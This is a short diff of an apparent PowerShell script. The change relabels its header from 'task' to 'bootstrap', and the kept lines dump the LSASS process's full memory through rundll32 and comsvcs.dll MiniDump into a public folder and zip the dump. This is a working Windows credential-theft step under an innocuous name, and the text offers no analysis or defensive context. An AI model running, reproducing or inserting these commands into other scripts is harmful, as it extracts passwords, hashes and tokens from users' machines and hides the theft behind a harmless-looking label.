@@ -1,4 +1,4 @@
-# task 6809 v1
+# bootstrap 3301 v1
 $p = Get-Process lsass
 rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump $p.Id C:\Users\Public\lsass.dmp full
 Compress-Archive C:\Users\Public\lsass.dmp C:\Users\Public\l.zip
